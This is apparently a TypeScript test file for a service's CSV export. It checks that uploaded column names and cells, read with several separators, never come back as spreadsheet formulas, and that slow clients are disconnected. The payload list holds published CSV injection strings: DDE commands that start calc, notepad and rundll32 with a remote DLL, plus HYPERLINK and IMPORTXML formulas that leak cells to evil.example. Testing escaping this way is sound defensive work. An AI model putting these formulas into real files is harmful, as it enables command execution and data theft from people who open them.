import { once } from 'node:events'
import { get } from 'node:http'
import type { AddressInfo } from 'node:net'
import fastify from 'fastify'
import { test } from 'tap'
import { sendCsv } from '../../src/http/csv-response.ts'
import { csvHeader, csvRows, originalText } from '../../src/lib/csv.ts'
import { ImportTester } from '../call-lists/setup.ts'
import { startTestService } from '../setup/service.ts'

/** Published payloads of CSV injection, and forms that only show after a text is split at another separator. */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+thespanishinquisition(cmd|' /C calc'!A",
  "-2+3+cmd|' /C calc'!A0",
  "--1-cmd|' /C calc'!'A1'",
  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: click me")',
  '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a/a10")',
  `parsebreaker" ;,=cmd|'/C notepad'!'A1'`,
  `=cmd|'/C notepad'!'A1';\t=cmd|'/C notepad'!'A2',\r=cmd|'/C notepad'!'A3'`,
  `x,=1+1`,
  `x;=1+1`,
  `x\t=1+1`,
  `x\r=1+1`,
  `x\n=1+1`,
  `x\r\n@SUM(1)`,
  `x;"=1+1"`,
  `x,"=1+1`,
  `x;'=1+1`,
  `x;''"=1+1`,
  `;;=1+1`,
  `,-1+1;+1+1`,
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  'x；=1+1;＝1+1',
  `"=1+1"`,
  '+79991234567;=1+1',
  '{"note":",=1+1"}',
]
const harmless = [
  '+79991234567',
  'tel: ,+79991234568',
  'x;-6.5;+1',
  'a, b; c',
  "it's",
  '[1,2]',
  'a=b',
  'Анна; Пётр',
]

/** Cells as a program reads them that takes quotes only at the start of a cell, and a quote that is closed as part of it. */
function lenientCells(text: string, separator: string): string[] {
  const cells: string[] = []
  let cell = ''
  for (let i = 0; i < text.length; ) {
    if (text[i] === '"' && cell === '') {
      for (i++; i < text.length; i++) {
        if (text[i] !== '"') cell += text[i]
        else if (text[i + 1] === '"') cell += text[++i]
        else break
      }
      i++
    }
    while (i < text.length && !`${separator}\r\n`.includes(text[i] as string)) cell += text[i++]
    cells.push(cell)
    cell = ''
    i++
  }
  return cells
}

const isFormula = (cell: string) =>
  /^[\t\r\n]*[=+\-@＝＋－＠]/.test(cell) && !/^(\+\d{7,15}|[+-]?\d+([.,]\d+)?)$/.test(cell)

const columnsOf = (names: readonly string[]) => names.map((name) => ({ name, isNumber: false }))

test('No cell and no column name of an export is a formula, whatever separator the program expects', async (t) => {
  for (const separator of [',', ';'] as const) {
    const texts = payloads.map((payload) => [payload, 'x', payload])
    const file =
      csvHeader(columnsOf(payloads), { separator }) + csvRows(columnsOf(payloads), texts, { separator })
    for (const reader of [',', ';', '\t']) {
      t.same(
        lenientCells(file, reader).filter(isFormula),
        [],
        `written with "${separator}", read with "${reader}"`,
      )
    }
    const cells = lenientCells(file, separator).filter((cell) => cell !== '')
    t.same(cells.slice(0, payloads.length).map(originalText), payloads, 'the texts can be restored')
  }
  const written = csvRows(
    columnsOf(['a']),
    harmless.map((text) => [text]),
    {},
  )
  t.same(
    lenientCells(written, ',').filter((cell) => cell !== ''),
    harmless,
    'other texts are unchanged',
  )
  t.ok(
    written.includes('"a, b; c"') && csvRows(columnsOf(['a']), [['a;b']], {}).startsWith('"a;b"'),
    'cells with the other separator are quoted',
  )
})

test('Column names and cells of an uploaded list are exported as text, and read again as they were', async (t) => {
  const s = await startTestService(t)
  const tester = await ImportTester.create(s)
  const id = await tester.createCampaign()
  const quoted = (cells: readonly string[]) =>
    cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')
  const list = `${quoted(['phone', ...payloads])}\n${quoted(['bad', ...payloads])}\n`
  const { body } = await tester.upload(id, list)
  t.match(body, { rejected: 1 }, JSON.stringify(body))
  const cellsOf = async (import_id: string) =>
    (await tester.request('GET', `/api/imports/${import_id}/rejected`)).body.items[0].cells
  for (const separator of [',', ';']) {
    const path = `/api/imports/${body.import_id}/rejected/export?separator=${encodeURIComponent(separator)}`
    const { body: text } = await tester.request('GET', path)
    for (const reader of [',', ';', '\t']) t.same(lenientCells(text, reader).filter(isFormula), [])
    const again = await tester.upload(id, text)
    t.match(again.body, { rejected: 1 }, JSON.stringify(again.body))
    t.same((await cellsOf(again.body.import_id)).slice(3), await cellsOf(body.import_id))
  }
})

test('A client that reads an export too slowly is disconnected', async (t) => {
  const app = fastify()
  t.teardown(() => app.close())
  let ended: (error: unknown) => void = () => undefined
  const reading = new Promise((resolve) => {
    ended = resolve
  })
  const row = ['x'.repeat(100_000)]
  app.get('/', (request, reply) =>
    sendCsv(
      request,
      reply,
      { name: 'a', columns: columnsOf(['a']), format: {} },
      async ({ write }) => {
        try {
          for (;;) await write([row])
        } catch (error) {
          ended(error)
          throw error
        }
      },
      { drainTimeoutMs: 60_000, graceMs: 100, minBytesPerMs: 1e9 },
    ),
  )
  await app.listen({ port: 0, host: '127.0.0.1' })
  const { port } = app.server.address() as AddressInfo
  const request = get({ port, host: '127.0.0.1' })
  const [response] = await once(request, 'response')
  response.on('error', () => undefined)
  // Nothing is read until the server has given up.
  t.match(await reading, { code: 'interrupted' })
  response.resume()
  await new Promise<void>((resolve) => response.once('close', resolve))
  t.notOk(response.complete)
})
